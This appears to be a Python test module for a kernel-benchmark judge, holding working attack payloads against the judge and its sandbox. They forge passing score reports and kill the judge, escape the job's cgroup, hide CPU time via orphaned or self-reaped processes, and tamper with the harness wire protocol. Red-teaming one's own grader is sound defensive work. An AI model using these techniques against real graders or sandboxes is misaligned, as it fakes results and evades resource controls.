"""Attacks on the judge that do not depend on the problem, written once and applied to every problem by
appending them to the problem's honest solution (a submission reaches the sandbox as one file).

Each attack wraps the honest `custom_kernel`, so that the kernel's outputs stay right: whatever the attack
gains, it gains from the judge, never from a wrong answer being accepted. `test_trust.py` states what each
must get on each backend.
"""

FAKE_SCORE = 1.2e-7  # what a forged report claims; no honest run of any case gets near it

WRAP = "\n\n_honest_kernel = custom_kernel\n"

# Writes a passing report, in the judge's frame format and as bare JSON, into every stream of the judge and
# of its caller that it can open, then kills the judge so that the forgery is all the caller gets.
FORGE_REPORT = (
    WRAP
    + f"""
import json as _json
import os as _os
import signal as _signal

_FAKE = _json.dumps({{"verdict": "passed", "message": "", "score_s": {FAKE_SCORE}, "cases": []}}).encode()
_FRAMES = [
    b"KB1 started 0 " + b"0" * 64 + b"\\n",
    b"KB1 report %d %s\\n" % (len(_FAKE), b"0" * 64) + _FAKE,
    _FAKE,
]


def _ancestors():
    pid, out = _os.getpid(), []
    for _ in range(4):
        try:
            with open(f"/proc/{{pid}}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 0:
            break
        out.append(pid)
    return out


def custom_kernel(data):
    for pid in _ancestors():
        for fd in range(64):
            try:
                target = _os.open(f"/proc/{{pid}}/fd/{{fd}}", _os.O_WRONLY | _os.O_NONBLOCK)
            except OSError:
                continue
            for frame in _FRAMES:
                try:
                    _os.write(target, frame)
                except OSError:
                    pass
            _os.close(target)
    try:
        _os.kill(_os.getppid(), _signal.SIGKILL)
    except OSError:
        pass
    return _honest_kernel(data)
"""
)

# Kills the process that started it: under `none` that is the judge itself.
KILL_JUDGE = (
    WRAP
    + """
import os as _os
import signal as _signal


def custom_kernel(data):
    try:
        _os.kill(_os.getppid(), _signal.SIGKILL)
    except OSError:
        pass
    return _honest_kernel(data)
"""
)

# A helper thread started inside each call, doing the call's work a second time beside it (torch releases
# the GIL, so both run at once on two cores) and joined before it returns: what a kernel that splits its
# work over threads the job was not given costs, without the need for a problem-specific split.
IN_CALL_THREAD = (
    WRAP
    + """
import threading as _threading


def custom_kernel(data):
    helper = _threading.Thread(target=_honest_kernel, args=(data,))
    helper.start()
    out = _honest_kernel(data)
    helper.join()
    return out
"""
)

# A double-forked daemon in a session of its own, started at import, that writes its pid where the test
# finds it (under `none` nothing stops that) and burns a core for the whole job: outside the contestant's
# process tree as the tree used to be walked.
ORPHAN_SPINNER = (
    WRAP
    + """
import os as _os

if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        with open(PIDFILE, "w") as _f:
            _f.write(str(_os.getpid()))
        while True:
            pass
    _os._exit(0)
_os.wait()
custom_kernel = _honest_kernel
"""
)

# Computes the output in a child the kernel reaps by itself (SIGCHLD ignored): its CPU time reaches no
# parent's account in /proc. The parent only forks and waits; the child writes the answer into the output
# buffer the problem hands the kernel (matmul's c, vectoradd's C), which lies in memory shared with the judge,
# eight times over: the work of eight cores that a kernel could spread over eight such children.
AUTOREAPED_WORKER = (
    WRAP
    + """
import os as _os
import signal as _signal

_signal.signal(_signal.SIGCHLD, _signal.SIG_IGN)


def custom_kernel(data):
    pid = _os.fork()
    if pid == 0:
        try:
            for _ in range(8):
                _honest_kernel(data)
        finally:
            _os._exit(0)
    try:
        _os.waitpid(pid, 0)  # returns (ECHILD) once the kernel has reaped it
    except ChildProcessError:
        pass
    return data[-1]
"""
)

# AUTOREAPED_WORKER whose processes first try to leave the job's cgroup (runner/sandbox/cgroup.py): each writes itself
# into every cgroup.procs it can find (cgroup2 mounts, their roots and its own cgroup's ancestors). Out of it,
# its work would be charged nowhere.
CGROUP_ESCAPE = (
    AUTOREAPED_WORKER
    + """
import os as _os


def _leave_the_cgroup():
    roots = ["/sys/fs/cgroup", "/sys/fs/cgroup/unified"]
    try:
        with open("/proc/self/mounts") as f:
            roots += [line.split()[1] for line in f if line.split()[2:3] == ["cgroup2"]]
        with open("/proc/self/cgroup") as f:
            own = [line.strip().split(":", 2)[2] for line in f if line.startswith("0::")]
    except OSError:
        own = []
    for root in roots:
        for rel in own:
            while True:
                candidate = root + rel.rstrip("/")
                for target in (candidate, _os.path.dirname(candidate), root):
                    try:
                        with open(target + "/cgroup.procs", "w") as procs:
                            procs.write("0")
                    except OSError:
                        pass
                if rel in ("", "/"):
                    break
                rel = _os.path.dirname(rel)


_leave_the_cgroup()
_fork = _os.fork


def _escaping_fork():
    pid = _fork()
    if pid == 0:
        _leave_the_cgroup()
    return pid


_os.fork = _escaping_fork
"""
)

# A helper that keeps waking itself with SIGCONT (three kernel timers) while the judge has the tree stopped,
# and works whenever it finds the kernel's process stopped (state T): SIGSTOP holds nothing that arranged a
# SIGCONT for itself, so this work is done between windows, while the judge lays out the next inputs, where
# nothing used to charge it. The kernel is the honest one.
WORKS_WHILE_FROZEN = (
    WRAP
    + """
import ctypes as _ctypes
import os as _os
import signal as _signal
import time as _time

_KERNEL = _os.getpid()
if _os.fork() == 0:
    _signal.signal(_signal.SIGCONT, lambda *_: None)  # handled, so the kernel keeps delivering it
    _libc = _ctypes.CDLL(None, use_errno=True)
    _timers = []
    for _i in range(3):
        _event = (_ctypes.c_byte * 64)()  # struct sigevent: sigev_signo at 8, sigev_notify at 12
        _ctypes.c_int.from_buffer(_event, 8).value = _signal.SIGCONT
        _ctypes.c_int.from_buffer(_event, 12).value = 0  # SIGEV_SIGNAL
        _timer = _ctypes.c_void_p()
        if _libc.timer_create(1, _event, _ctypes.byref(_timer)) == 0:  # CLOCK_MONOTONIC
            _timers.append((_timer, (_ctypes.c_long * 4)(0, 1_000_000, 0, 300_000 * (_i + 1))))
    while True:
        for _timer, _spec in _timers:  # a SIGSTOP discards a pending timer signal: arm them again
            _libc.timer_settime(_timer, 0, _spec, None)
        try:
            with open(f"/proc/{_KERNEL}/stat") as _f:
                _state = _f.read().rsplit(")", 1)[1].split()[0]
        except OSError:
            _os._exit(0)
        if _state in ("T", "t"):
            _t = _time.process_time()
            while _time.process_time() - _t < 0.002:
                pass
        _os.kill(_os.getpid(), _signal.SIGSTOP)
"""
)

# Helpers that burn CPU at import, off the clock, then wait; the kernel reaps them by itself (SIGCHLD
# ignored). Each call kills one: read from /proc, a window then loses the helper's whole CPU time, which
# cancels the window's charge and lets extra threads work for free.
VANISHING_HELPERS = (
    IN_CALL_THREAD
    + """
import os as _os
import signal as _signal
import time as _time

_signal.signal(_signal.SIGCHLD, _signal.SIG_IGN)
_helpers = []
_ready_r, _ready_w = _os.pipe()
for _ in range(60):
    _pid = _os.fork()
    if _pid == 0:
        _t = _time.process_time()
        while _time.process_time() - _t < 0.02:
            pass
        _os.write(_ready_w, b"x")
        while True:
            _time.sleep(60)
    _helpers.append(_pid)
_burnt = 0
while _burnt < len(_helpers):
    _burnt += len(_os.read(_ready_r, 64))
_twice = custom_kernel


def custom_kernel(data):
    if _helpers:
        _os.kill(_helpers.pop(), _signal.SIGKILL)
    return _twice(data)
"""
)

# Replies to the judge with something other than one small JSON object that answers its command.
_BAD_REPLY = (
    WRAP
    + """
import runner.wire.channel as _channel

_send = _channel.Channel._send_frame


def _bad(self, payload, fds=()):
    if b'"aliases"' in payload:
        payload = PAYLOAD
    return _send(self, payload, fds)


_channel.Channel._send_frame = _bad
custom_kernel = _honest_kernel
"""
)
BAD_REPLIES = {
    name: _BAD_REPLY.replace("PAYLOAD", payload)
    for name, payload in {
        "nested": 'b"[" * 200_000 + b"]" * 200_000',
        "oversized": "b'{\"ok\": true, \"pad\": \"' + b'x' * (2 << 20) + b'\"}'",
        "not_json": 'b"\\xff\\xfe not json"',
        "a_list": 'b"[1, 2, 3]"',
        "no_nonce": """b'{"ok": true, "aliases": []}'""",
    }.items()
}

# Claims outputs alias inputs they do not, with extra entries: once, that made the inputs writable.
EXTRA_ALIASES = (
    WRAP
    + """
import __main__ as _harness  # the contestant runs as `python -m runner.contestant.harness`

_store = _harness.Harness.store


def _store_more(self, result, slot):
    return _store(self, result, slot) + [0, 1, 2]


_harness.Harness.store = _store_more
custom_kernel = _honest_kernel
"""
)

# Shrinks the arena it shares with the judge, which once made the judge die of SIGBUS.
SHRINK_ARENA = (
    WRAP
    + """
import os as _os


def custom_kernel(data):
    for fd in range(3, 256):
        try:
            if "kernelboard-arena" in _os.readlink(f"/proc/self/fd/{fd}"):
                _os.ftruncate(fd, 0)
        except FileNotFoundError:
            pass
    return _honest_kernel(data)
"""
)

# Honest twins: what the judge must not flag or slow down.
IDLE_THREAD_AT_IMPORT = (
    WRAP
    + """
import threading as _threading
import time as _time


def _idle():
    while True:
        _time.sleep(3600)


_threading.Thread(target=_idle, daemon=True).start()
custom_kernel = _honest_kernel
"""
)

# The harness's go/done handshake, broken from inside the contestant (runner/wire/handshake.py): a loop that
# answers a window without waiting for each call's go (as every harness did on a CPU before issue 27), and
# a kernel that says done for calls it was never given.
HANDSHAKE = {
    "no_go": WRAP
    + """
import __main__ as _harness  # the contestant runs as `python -m runner.contestant.harness`

_run = _harness.Harness.run
_harness.Harness.run = lambda self, k, per_call, noop, profile=False: _run(self, k, False, noop, profile)
custom_kernel = _honest_kernel
""",
    "done_ahead": WRAP
    + """
import runner.wire.handshake as _handshake

_post = _handshake.Control.post


def _ahead(self, i, value):
    _post(self, i, value + 5 if i == _handshake.DONE and value > 0 else value)


_handshake.Control.post = _ahead
custom_kernel = _honest_kernel
""",
}

# A profile table whose number is an integer too large for a float (JSON allows it): math.isfinite raised
# OverflowError in the judge, which reported its own crash as a platform fault, and the platform ran the
# submission again (a re-roll at the submission's choice).
HUGE_PROFILE_NUMBER = (
    WRAP
    + """
import sys as _sys

# the harness's module: `__main__` under `none`, runner.contestant.harness where the fork server started it
_harness = next(
    m
    for m in list(_sys.modules.values())
    if getattr(m, "__name__", "") in ("__main__", "runner.contestant.harness")
    and isinstance(getattr(m, "OperatorProfile", None), type)
)
_table = _harness.OperatorProfile.table


def _huge(self):
    table = _table(self)
    table["rows"] = [{"name": "x", "calls": 1, "self_cpu_us": 10**400}]
    return table


_harness.OperatorProfile.table = _huge
custom_kernel = _honest_kernel
"""
)
